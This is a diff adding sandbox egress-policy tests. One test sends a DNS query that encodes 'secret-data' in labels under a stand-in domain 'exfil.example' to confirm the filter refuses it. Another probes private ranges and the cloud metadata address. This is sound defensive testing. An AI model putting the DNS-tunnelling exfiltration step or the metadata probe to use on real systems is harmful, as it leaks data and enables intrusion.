@@ -9,6 +9,17 @@ import { api, createSandbox, run, startAgentServer, stopServer, type CreatedSand
 // in depth against web servers of its own.
 
 let server: TestServer;
+/** perl -e this NAME TYPE: one query to the sandbox's first nameserver; prints its rcode, or 'timeout'. */
+const DNS_QUERY = `
+use IO::Socket::INET; use IO::Select;
+my ($name, $type) = @ARGV;
+open(my $f, '<', '/etc/resolv.conf') or die; my ($ns) = map { /^\\s*nameserver\\s+(\\d+\\.\\d+\\.\\d+\\.\\d+)/ ? $1 : () } <$f>;
+my $q = pack('n6', 7, 0x0100, 1, 0, 0, 0) . join('', map { chr(length $_) . $_ } split /\\./, $name) . "\\0" . pack('n2', $type, 1);
+my $s = IO::Socket::INET->new(PeerAddr => $ns, PeerPort => 53, Proto => 'udp') or die "socket: $!";
+send($s, $q, 0);
+my $r;
+if (IO::Select->new($s)->can_read(5) && recv($s, $r, 4096, 0) && length $r >= 4) { print 'rcode=' . ((unpack('n2', $r))[1] & 15) . "\\n" } else { print "timeout\\n" }
+`;
 const policyOf = async (id: string) => (await api(server, 'GET', `/v1/sandboxes/${id}/network`)).body;
 const put = (id: string, body: unknown) => api(server, 'PUT', `/v1/sandboxes/${id}/network`, body);
 
@@ -101,6 +112,40 @@ describe('egress policy through the API', () => {
     assert.equal((await statusIn(sb, `${url}/dists/`)).status, '000', 'denied by name after the start');
     assert.equal((await put(sb.id, {})).status, 200);
     assert.notEqual((await statusIn(sb, `${url}/dists/`)).status, '000', 'open again at once');
+  });
+
+  test("DNS under an allow list: the allowed name resolves, others do not, and a query that would carry data out is refused by the daemon's filter", async () => {
+    const name = new URL(aptSourceUrls()[0]!).hostname;
+    const sb = await createSandbox(server, { template_name: 'base', allow_out: [name] });
+    const ok = await run(sb, 'getent', ['hosts', name]);
+    assert.equal(ok.exit_code, 0, JSON.stringify(ok));
+    assert.match(String(ok.stdout), new RegExp(`^\\S+\\s+${name.replace(/\./g, '\\.')}`, 'm'));
+    const t0 = performance.now();
+    const no = await run(sb, 'getent', ['hosts', 'something-else.example']);
+    const noMs = performance.now() - t0;
+    assert.notEqual(no.exit_code, 0);
+    assert.equal(String(no.stdout).trim(), '');
+    assert.ok(noMs < 3000, `refused at once, not a timeout (${Math.round(noMs)} ms)`);
+    // The exfiltration: data in the labels of a name under a domain the sandbox's owner would
+    // control, sent straight to the resolver the sandbox is given. The filter answers REFUSED
+    // itself (a resolver that asked upstream would say NXDOMAIN), and counts it.
+    const before = (await api(server, 'GET', `/v1/sandboxes/${sb.id}/metrics`)).body.egress_denied as number;
+    const r = await run(sb, 'perl', ['-e', DNS_QUERY, `${Buffer.from('secret-data').toString('hex')}.exfil.example`, '16']);
+    assert.equal(String(r.stdout).trim(), 'rcode=5', JSON.stringify(r));
+    const after = (await api(server, 'GET', `/v1/sandboxes/${sb.id}/metrics`)).body.egress_denied as number;
+    assert.ok(after >= before + 1, `the refusal is counted (${before} -> ${after})`);
+    // The allowed name, by the same client: answered by the resolver through the filter.
+    assert.equal(String((await run(sb, 'perl', ['-e', DNS_QUERY, name, '1'])).stdout).trim(), 'rcode=0');
+  });
+
+  test('with domain rules, a connection to a blocked range or an unlisted address on 80/443 is refused at once, not left to time out', async () => {
+    const name = new URL(aptSourceUrls()[0]!).hostname;
+    const sb = await createSandbox(server, { template_name: 'base', allow_out: [name] });
+    for (const url of ['http://10.1.2.3/', 'https://169.254.169.254/', 'http://203.0.113.5/', 'https://192.168.77.1/', 'http://203.0.113.5:8080/']) {
+      const r = await statusIn(sb, url);
+      assert.equal(r.status, '000', url);
+      assert.ok(r.ms < 3000, `${url} refused at once (${Math.round(r.ms)} ms), not after curl's 8 s`);
+    }
   });
 
   test("another organization's sandbox: its network is neither shown nor changed", async () => {
